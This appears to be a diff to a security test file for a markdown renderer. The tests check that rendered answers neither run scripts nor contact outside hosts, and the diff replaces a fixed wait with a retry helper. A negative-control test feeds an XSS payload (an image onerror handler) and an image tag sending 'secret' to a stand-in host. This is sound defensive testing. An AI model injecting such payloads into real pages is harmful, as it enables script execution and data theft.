@@ -1,6 +1,7 @@
 /** Whatever an answer holds, nothing of it runs, and nothing is asked of another machine (reliability T1, T2). */
 import assert from 'node:assert/strict';
 import test from 'node:test';
+import { eventually } from './support/eventually.ts';
 import { beginningsOf, fetchTexts, scriptTexts, seededNumbers } from './support/hostile-texts.ts';
 import { type OpenMarkdownPage, openMarkdownPage } from './support/open-markdown-page.ts';
 import { noBrowser } from './support/running-app.ts';
@@ -62,8 +63,9 @@ test('no shape of picture, link, style or tag asks another machine', { skip: noB
 test('shown as HTML, the same texts run and ask (negative control)', { skip: noBrowser }, async (t) => {
   const opened = await openMarkdownPage(t);
   await opened.showAsHtml('<img src=x onerror=pwned()><img src="https://away.test/?d=secret">');
-  await opened.page.waitForTimeout(500);
-  assert.ok(opened.requests.length + opened.faults.length >= 2, String([opened.requests, opened.faults]));
+  await eventually(() =>
+    assert.ok(opened.requests.length + opened.faults.length >= 2, String([opened.requests, opened.faults])),
+  );
 });
 
 async function assertHarmless({ page }: OpenMarkdownPage): Promise<void> {
